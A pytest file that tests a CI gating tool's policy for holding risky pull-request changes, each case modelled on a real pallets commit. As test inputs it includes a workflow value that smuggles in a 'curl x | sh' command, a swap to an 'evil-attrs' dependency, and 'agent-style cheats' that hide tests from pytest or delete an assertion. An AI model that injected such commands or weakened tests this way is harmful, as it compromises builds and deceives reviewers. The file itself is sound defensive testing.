"""Holds a maintainer agrees with: rule changes, each on the real commit that motivated it
(issue 29).

The replay (`benchmarks/replay.py`, docs/policy.md) found holds nobody would learn from.
Each case rebuilds the shape of one real commit of a fetched project (named by its id; the
files are reduced to the lines that matter, none of the project's code) in a real
repository and judges it through `proofgate policy`, next to the variant that must stay
held.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from gate.faces.cli import main
from tests.gitutil import commit, make_repo, repo_dir


def _config(*commands: str) -> bytes:
    check = ", ".join(
        f"{phase}: {json.dumps(cmd)}"
        for phase, cmd in zip(
            ("setup", "test"), commands if len(commands) > 1 else ("true", *commands), strict=False
        )
    )
    return f"version: 1\nimage: python:3.12-slim\nchecks:\n  - {{name: unit, {check}}}\n".encode()


def _policy(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    base: dict[bytes, bytes],
    head: dict[bytes, bytes | None],
) -> tuple[int, dict[str, list[str]]]:
    repo = make_repo(tmp_path)
    base_id = commit(repo, base, message="base")
    commit(repo, head, branch="pr", parent=base_id, message="pr")
    capsys.readouterr()
    code = main(
        ["policy", "--repo", str(repo_dir(repo)), "--base", "main", "--head", "pr", "--json"]
    )
    found: dict[str, list[str]] = {}
    for f in json.loads(capsys.readouterr().out)["policy"]["findings"]:
        found.setdefault(f["rule"], []).append(f["message"])
    return code, found


# pallets/itsdangerous 1cebfc9ef710 "Bump pytest from 6.2.4 to 6.2.5": Dependabot moves
# one pin in requirements/dev.txt and requirements/tests.txt; tox.ini installs tests.txt.
_TOX = b"[tox]\nenvlist = py\n\n[testenv]\ndeps = -r requirements/tests.txt\ncommands = pytest\n"
_ITSDANGEROUS_BASE = {
    b"tox.ini": _TOX,
    b"pyproject.toml": b'[project]\nname = "itsdangerous"\n',
    b"requirements/dev.txt": b"pytest==6.2.4\n    # via -r requirements/tests.in\ntox==3.24.3\n",
    b"requirements/tests.txt": b"pytest==6.2.4\n    # via -r requirements/tests.in\n",
    b"requirements/tests.in": b"pytest\n",
}
_ITSDANGEROUS_HEAD: dict[bytes, bytes | None] = {
    b"requirements/dev.txt": b"pytest==6.2.5\n    # via -r requirements/tests.in\ntox==3.24.3\n",
    b"requirements/tests.txt": b"pytest==6.2.5\n    # via -r requirements/tests.in\n",
}


@pytest.mark.parametrize(
    ("commands", "held"),
    [
        pytest.param(("python -m pytest -q",), [], id="no-check-installs-them"),
        pytest.param(
            ("pip install -r requirements/tests.txt", "python -m pytest -q"),
            ["requirements/tests.txt"],
            id="setup-installs-tests-txt",
        ),
        pytest.param(("tox -e py",), ["requirements/tests.txt"], id="tox-installs-tests-txt"),
        pytest.param(
            ("make test",),
            ["requirements/dev.txt", "requirements/tests.txt"],
            id="an-opaque-runner-may-install-anything",
        ),
    ],
)
def test_a_requirements_file_is_held_only_when_a_check_installs_from_it(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    commands: tuple[str, ...],
    held: list[str],
) -> None:
    base = {b".github/proofgate.yml": _config(*commands), **_ITSDANGEROUS_BASE}
    code, found = _policy(tmp_path, capsys, base, _ITSDANGEROUS_HEAD)
    messages = found.get("dependency-changed", [])
    assert [m.split(":")[0] for m in messages] == ["dependency manifest modified"] * len(held)
    assert code == (11 if held else 0), found


def test_a_requirements_file_included_by_an_installed_one_is_held(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    base = {
        b".github/proofgate.yml": _config("pip install -r requirements/ci.txt", "pytest"),
        b"requirements/ci.txt": b"-r base.txt\ncoverage==7.0\n",
        b"requirements/base.txt": b"attrs==23.1\n",
    }
    code, found = _policy(tmp_path, capsys, base, {b"requirements/base.txt": b"attrs==24.1\n"})
    assert code == 11
    assert found["dependency-changed"] == [
        "dependency manifest modified: pins moved: attrs ==23.1 → ==24.1; nothing else changed"
    ]


def test_a_requirements_file_the_packaging_reads_is_held_without_any_check_naming_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    base = {
        b".github/proofgate.yml": _config("pip install .", "pytest"),
        b"pyproject.toml": b'[project]\nname = "x"\ndynamic = ["dependencies"]\n'
        b'[tool.setuptools.dynamic]\ndependencies = {file = ["requirements.txt"]}\n',
        b"requirements.txt": b"attrs==23.1\n",
    }
    code, found = _policy(tmp_path, capsys, base, {b"requirements.txt": b"evil-attrs==1.0\n"})
    assert code == 11
    assert "dependency-changed" in found


# Agent-style cheats on real code (pallets/click's tests/test_testing.py): a caught
# mutant plus a weakened test. The differential holds both, but one approval releases
# them; the policy says what happened in words a reviewer reads before approving.
_CLICK_TEST = (
    b"from click.testing import CliRunner\n\n\n"
    b"def test_runner():\n"
    b"    result = CliRunner().invoke(cli, [])\n"
    b"    assert not result.exception\n"
    b"    assert result.output == 'ok\\n'\n"
    b"    assert result.exit_code == 0\n"
)
_CLICK_BASE = {
    b".github/proofgate.yml": _config("pytest"),
    b"src/click/testing.py": b"class CliRunner: ...\n",
    b"tests/test_testing.py": _CLICK_TEST,
}


def test_a_test_file_renamed_to_a_name_pytest_does_not_collect_is_held(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, found = _policy(
        tmp_path,
        capsys,
        _CLICK_BASE,
        {b"tests/test_testing.py": None, b"tests/testing_checks_disabled.py": _CLICK_TEST},
    )
    assert code == 11
    assert found["tests-deleted"] == [
        "test file renamed to 'tests/testing_checks_disabled.py', a name pytest does not "
        "collect (test_*.py, *_test.py): its tests no longer run"
    ]


def test_one_assertion_removed_is_held(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    weakened = _CLICK_TEST.replace(b"    assert result.output == 'ok\\n'\n", b"")
    code, found = _policy(tmp_path, capsys, _CLICK_BASE, {b"tests/test_testing.py": weakened})
    assert code == 11
    assert found["assertions-removed"] == [
        "1 assertion(s) removed here (1 deleted, 0 added); 1 fewer in the whole patch: "
        "the tests check less"
    ]


def test_an_assertion_rewritten_is_not_held(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    changed = _CLICK_TEST.replace(b"== 'ok\\n'", b"== 'done\\n'")
    code, found = _policy(tmp_path, capsys, _CLICK_BASE, {b"tests/test_testing.py": changed})
    assert code == 0, found


# pallets/itsdangerous f8459e3d6cd5 "[pre-commit.ci] pre-commit autoupdate": two hook
# repositories re-pinned. pre-commit runs on developers' machines and in CI, not in the
# clean room unless a check runs it.
_PRECOMMIT = (
    b"repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.6.2\n"
    b"    hooks:\n      - id: ruff\n  - repo: https://github.com/pre-commit/pre-commit-hooks\n"
    b"    rev: v4.6.0\n    hooks:\n      - id: check-merge-conflict\n"
)
_AUTOUPDATE = _PRECOMMIT.replace(b"v0.6.2", b"v0.7.1").replace(b"v4.6.0", b"v5.0.0")
_NEW_HOOK = _PRECOMMIT + b"  - repo: https://github.com/someone/hooks\n    rev: v1.0.0\n"


@pytest.mark.parametrize(
    ("commands", "head", "held"),
    [
        pytest.param(("pytest",), _AUTOUPDATE, None, id="autoupdate-no-check-runs-pre-commit"),
        pytest.param(("pytest",), _NEW_HOOK, None, id="new-hook-no-check-runs-pre-commit"),
        pytest.param(
            ("pre-commit run --all-files",),
            _AUTOUPDATE,
            "not verified: tag look-ups need the GitHub API",
            id="autoupdate-a-check-runs-pre-commit-locally",
        ),
        pytest.param(
            ("pre-commit run --all-files",),
            _NEW_HOOK,
            "build/install-time file modified",
            id="new-hook-a-check-runs-pre-commit",
        ),
    ],
)
def test_pre_commit_config_is_a_build_hook_only_when_a_check_runs_pre_commit(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    commands: tuple[str, ...],
    head: bytes,
    held: str | None,
) -> None:
    base = {b".github/proofgate.yml": _config(*commands), b".pre-commit-config.yaml": _PRECOMMIT}
    code, found = _policy(tmp_path, capsys, base, {b".pre-commit-config.yaml": head})
    if held is None:
        assert code == 0, found
    else:
        assert code == 11
        assert held in found["build-hook-changed"][0]


# pallets/markupsafe 0c422e10b1e1 (drop Python 3.9): one matrix entry removed from
# .github/workflows/tests.yaml.
_TESTS_YAML = (
    b"name: Tests\non:\n  pull_request:\n  push:\n    branches: [main, stable]\njobs:\n"
    b"  tests:\n    runs-on: ${{ matrix.os || 'ubuntu-latest' }}\n    strategy:\n"
    b"      matrix:\n        include:\n          - {python: '3.13'}\n"
    b"          - {name: Windows, python: '3.13', os: windows-latest}\n"
    b"          - {python: '3.10'}\n          - {python: '3.9'}\n    steps:\n"
    b"      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n"
    b"      - run: uv run --locked tox run -e py${{ matrix.python }}\n"
)


# SPEC §2.1: the job reaches nothing (no permissions, secrets, environment, privileged
# trigger; hosted runners), so matrix entries and its steps are allowed and recorded; a
# self-hosted runner is a grant.
@pytest.mark.parametrize(
    ("head", "rule", "code"),
    [
        pytest.param(
            _TESTS_YAML.replace(b"          - {python: '3.9'}\n", b""),
            "ci-matrix-changed",
            0,
            id="drop",
        ),
        pytest.param(
            _TESTS_YAML.replace(b"'3.10'}", b"'3.10'}\n          - {python: '3.14'}"),
            "ci-matrix-changed",
            0,
            id="add",
        ),
        pytest.param(
            _TESTS_YAML.replace(b"{python: '3.9'}", b"{python: '3.9', os: self-hosted}"),
            "ci-privilege-changed",
            11,
            id="self-hosted-runner",
        ),
        pytest.param(
            _TESTS_YAML.replace(b"{python: '3.9'}", b"{python: '3.9; curl x | sh'}"),
            "ci-workflow-changed",
            0,
            id="value-that-injects-into-a-job-that-reaches-nothing",
        ),
        pytest.param(
            _TESTS_YAML.replace(b"          - {python: '3.9'}\n", b"").replace(
                b"tox run", b"tox run --skip"
            ),
            "ci-workflow-changed",
            0,
            id="matrix-and-a-step",
        ),
    ],
)
def test_a_workflow_matrix_change_is_recorded_not_held(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], head: bytes, rule: str, code: int
) -> None:
    base = {
        b".github/proofgate.yml": _config("pytest"),
        b".github/workflows/tests.yaml": _TESTS_YAML,
    }
    got, found = _policy(tmp_path, capsys, base, {b".github/workflows/tests.yaml": head})
    assert rule in found, found
    assert got == code, found


# pallets/click 4e869f3a172a: uv.lock refreshed alone. Only uv installs from it.
_PYPROJECT = b'[project]\nname = "click"\ndependencies = []\n'


@pytest.mark.parametrize(
    ("commands", "held"),
    [
        pytest.param(("pip install -e .[test]", "python -m pytest -q"), False, id="pip-check"),
        pytest.param(("uv run --locked pytest",), True, id="uv-check"),
    ],
)
def test_a_lockfile_is_held_only_when_a_check_installs_from_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], commands: tuple[str, ...], held: bool
) -> None:
    base = {
        b".github/proofgate.yml": _config(*commands),
        b"pyproject.toml": _PYPROJECT,
        b"uv.lock": b'version = 1\n[[package]]\nname = "pytest"\nversion = "8.3.0"\n',
    }
    head: dict[bytes, bytes | None] = {
        b"uv.lock": b'version = 1\n[[package]]\nname = "pytest"\nversion = "8.3.5"\n'
    }
    code, found = _policy(tmp_path, capsys, base, head)
    assert ("dependency-changed" in found) is held, found
    assert ("lockfile-drift" in found) is held, found
    assert code == (11 if held else 0)


# pallets/click a5cb82f5df32: a `[dependency-groups]` group added (pytest-randomly,
# pytest-xdist). `pip install -e .[test]` installs extras, never groups.
_GROUPS_BASE = b'[project]\nname = "click"\n\n[dependency-groups]\ntests = ["pytest"]\n'
_GROUPS_HEAD = _GROUPS_BASE + b'tests-random = ["pytest-randomly", "pytest-xdist"]\n'


@pytest.mark.parametrize(
    ("commands", "held"),
    [
        pytest.param(("pip install -e .[test]", "python -m pytest -q"), False, id="pip-extras"),
        pytest.param(("uv run --group tests-random pytest",), True, id="uv-groups"),
    ],
)
def test_dependency_groups_are_held_only_when_a_check_can_install_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], commands: tuple[str, ...], held: bool
) -> None:
    base = {b".github/proofgate.yml": _config(*commands), b"pyproject.toml": _GROUPS_BASE}
    code, found = _policy(tmp_path, capsys, base, {b"pyproject.toml": _GROUPS_HEAD})
    assert ("dependency-changed" in found) is held, found
    assert code == (11 if held else 0)
